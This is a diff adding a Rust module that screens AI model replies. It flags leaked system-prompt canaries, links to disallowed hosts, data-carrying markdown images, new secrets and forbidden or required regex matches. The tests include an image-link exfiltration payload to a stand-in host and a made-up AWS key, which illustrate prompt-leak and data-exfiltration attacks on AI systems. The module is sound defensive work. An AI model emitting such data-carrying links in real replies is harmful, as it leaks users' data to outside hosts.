@@ -1,0 +1,233 @@
+//! The guards on a call's way out: what a reply holds that it should not, or lacks.
+
+use std::sync::LazyLock;
+
+use regex_automata::meta::Regex;
+
+use super::{
+    canary::Canary,
+    links::{Link, links},
+    verdict::{Verdict, excerpt},
+};
+use crate::{
+    model::{GuardName, Guards, Message},
+    safety::{
+        self,
+        redact::{Redactor, Selection},
+    },
+};
+
+/// What came back, and what it answers.
+#[derive(Clone, Copy, Debug)]
+pub struct Reply<'a> {
+    /// Everything the model wrote: text, refusal, the arguments of tool calls.
+    pub parts: &'a [&'a str],
+    /// The messages as they were sent: what stands in them is no news in a reply.
+    pub messages: &'a [Message],
+    pub canary: Option<&'a Canary>,
+}
+
+/// Looks a reply over.
+#[must_use]
+pub fn outgoing(reply: &Reply<'_>, guards: &Guards) -> Verdict {
+    let mut verdict = Verdict::new(guards);
+    if let Some(canary) = reply.canary {
+        match reply.parts.iter().find_map(|part| canary.leak(part)) {
+            Some(how) => verdict.found(
+                GuardName::Canary,
+                0.0,
+                format!("the canary of the system message stands in the reply, {how}"),
+                "the reply gives the prompt away; look at the values it was given".to_owned(),
+            ),
+            None => verdict.clean(GuardName::Canary, 1.0, "the canary is not in the reply"),
+        }
+    }
+    if guards.output.looks() {
+        output(reply, guards, &mut verdict);
+    }
+    verdict
+}
+
+/// Most things told of one reply.
+const MOST: usize = 5;
+
+fn output(reply: &Reply<'_>, guards: &Guards, verdict: &mut Verdict) {
+    let mut found = Vec::new();
+    for part in reply.parts {
+        found.extend(leading_away(part, reply.messages, guards));
+        found.extend(secrets(part, reply.messages));
+        found.extend(forbidden(part, guards));
+    }
+    for expression in &guards.required {
+        let whole = reply.parts.first().copied().unwrap_or_default();
+        if !compile(expression).is_ok_and(|it| it.is_match(whole)) {
+            found.push(format!("nothing in it matches {}", excerpt(expression)));
+        }
+    }
+    if found.is_empty() {
+        return verdict.clean(GuardName::Output, 1.0, "the reply holds nothing it must not");
+    }
+    let more = found.len().saturating_sub(MOST);
+    found.truncate(MOST);
+    let more = if more == 0 { String::new() } else { format!("; and {more} more") };
+    verdict.found(
+        GuardName::Output,
+        0.0,
+        format!("{}{more}", found.join("; ")),
+        "read the reply before you use it".to_owned(),
+    );
+}
+
+/// Links to hosts that are not allowed, and images that would carry data away. What the prompt
+/// itself names may be named back.
+fn leading_away(part: &str, messages: &[Message], guards: &Guards) -> Vec<String> {
+    let known = |link: &Link<'_>| {
+        let address = part.get(link.range.clone()).unwrap_or_default();
+        messages.iter().any(|message| message.content.contains(address))
+    };
+    let mut found = Vec::new();
+    for link in links(part) {
+        let address = || excerpt(part.get(link.range.clone()).unwrap_or_default());
+        let foreign = guards.allowed_hosts.as_ref().is_some_and(|hosts| !link.is_of(hosts));
+        if foreign {
+            found.push(format!("a link to a host that is not allowed: {}", address()));
+        } else if guards.allowed_hosts.is_none() && link.carries() && !known(&link) {
+            found.push(format!("an image that would carry data to {}", address()));
+        }
+    }
+    found
+}
+
+static SECRETS: LazyLock<Option<Redactor>> =
+    LazyLock::new(|| Redactor::new(&Selection { secrets: true, ..Selection::default() }).ok());
+
+/// Secrets that the prompt did not hold. Where they stand is told, never what they are.
+fn secrets(part: &str, messages: &[Message]) -> Vec<String> {
+    // What every known kind of secret has: a long run without a blank. Most prose stops here.
+    const SHORTEST: usize = 16;
+    if !part.split_ascii_whitespace().any(|word| word.len() >= SHORTEST) {
+        return Vec::new();
+    }
+    let findings = SECRETS.as_ref().map(|redactor| redactor.findings(part)).unwrap_or_default();
+    let news = findings.into_iter().filter(|finding| {
+        let secret = part.get(finding.range.clone()).unwrap_or_default();
+        !messages.iter().any(|message| message.content.contains(secret))
+    });
+    news.map(|finding| format!("{} at byte {}", finding.label, finding.range.start)).collect()
+}
+
+fn forbidden(part: &str, guards: &Guards) -> Vec<String> {
+    let mut found = Vec::new();
+    for expression in &guards.forbidden {
+        match compile(expression) {
+            Ok(compiled) => {
+                if let Some(matched) = compiled.find(part) {
+                    let words = part.get(matched.range()).unwrap_or_default();
+                    found.push(format!(
+                        "{} is forbidden by {}",
+                        excerpt(words),
+                        excerpt(expression)
+                    ));
+                }
+            }
+            Err(error) => {
+                found.push(format!("{} cannot be looked for: {error}", excerpt(expression)));
+            }
+        }
+    }
+    found
+}
+
+/// Bytes of memory an expression may take.
+const SIZE: usize = 4 << 20;
+
+fn compile(expression: &str) -> Result<Regex, String> {
+    let config = Regex::config().nfa_size_limit(Some(SIZE));
+    let built = Regex::builder().configure(config).build(expression);
+    built.map_err(|error| match error.syntax_error() {
+        Some(syntax) => {
+            let told = syntax.to_string();
+            let last = told.lines().last().unwrap_or_default();
+            safety::display_line(last.trim_start_matches("error: ")).into_owned()
+        }
+        None => "the expression is too large".to_owned(),
+    })
+}
+
+/// Checks a regular expression for `forbidden` or `required`. They run in time proportional to
+/// the reply, whatever they are.
+///
+/// # Errors
+/// What is wrong with it, in words.
+pub fn check_expression(expression: &str) -> Result<(), String> {
+    compile(expression).map(|_| ())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{GuardAction, Role};
+
+    fn look(text: &str, prompt: &str, guards: &Guards, canary: Option<&Canary>) -> Verdict {
+        let messages = [Message::new(Role::User, prompt)];
+        outgoing(&Reply { parts: &[text], messages: &messages, canary }, guards)
+    }
+
+    fn blocking() -> Guards {
+        Guards { output: GuardAction::Block, canary: GuardAction::Block, ..Guards::default() }
+    }
+
+    #[test]
+    fn a_leaked_canary_stops_the_reply() {
+        let canary = Canary::new(77);
+        let leak = format!("Sure: {}", canary.token());
+        let verdict = look(&leak, "", &blocking(), Some(&canary));
+        assert_eq!(verdict.blocked.map(|blocked| blocked.guard), Some(GuardName::Canary));
+        assert!(!verdict.checks.iter().any(|check| check.reason.contains(canary.token())));
+        let verdict = look("nothing", "", &blocking(), Some(&canary));
+        assert!(verdict.blocked.is_none() && verdict.checks.len() == 2);
+    }
+
+    #[test]
+    fn links_are_held_against_the_hosts_that_are_allowed() {
+        let allowed_hosts = Some(vec!["example.com".to_owned()]);
+        let guards = Guards { allowed_hosts, ..blocking() };
+        assert!(look("see https://docs.example.com/a", "", &guards, None).blocked.is_none());
+        let verdict = look("see https://evil.test/a", "", &guards, None);
+        assert!(verdict.blocked.is_some_and(|it| it.found.contains("evil.test")));
+        let carrying = "![x](https://evil.test/p?d=c2VjcmV0IGRhdGE)";
+        assert!(look(carrying, "", &blocking(), None).blocked.is_some());
+        assert!(
+            look(carrying, carrying, &blocking(), None).blocked.is_none(),
+            "it was in the prompt"
+        );
+        assert!(
+            look("see https://any.test/a?b=cdefghijk", "", &blocking(), None).blocked.is_none()
+        );
+    }
+
+    #[test]
+    fn a_secret_is_told_by_its_kind_and_never_repeated() {
+        let secret = format!("AKIA{}", "QYLPMN5HFIQR7BBB");
+        let text = format!("the key is {secret} now");
+        let verdict = look(&text, "", &blocking(), None);
+        let found = verdict.blocked.expect("a secret").found;
+        assert!(!found.contains(&secret) && found.contains("at byte 11"), "{found}");
+        assert!(look(&text, &text, &blocking(), None).blocked.is_none(), "it was in the prompt");
+    }
+
+    #[test]
+    fn own_expressions_forbid_and_require() {
+        let guards = Guards {
+            forbidden: vec!["(?i)internal only".into()],
+            required: vec!["^Summary".into()],
+            ..blocking()
+        };
+        assert!(look("Summary: fine", "", &guards, None).blocked.is_none());
+        let found = look("This is INTERNAL ONLY", "", &guards, None).blocked.expect("both").found;
+        assert!(found.contains("INTERNAL ONLY") && found.contains("^Summary"), "{found}");
+        assert!(check_expression("a(").is_err());
+        assert!(check_expression(r"\w{1000}{1000}").is_err());
+        assert!(check_expression("(a+)+$").is_ok(), "linear whatever it looks like");
+    }
+}
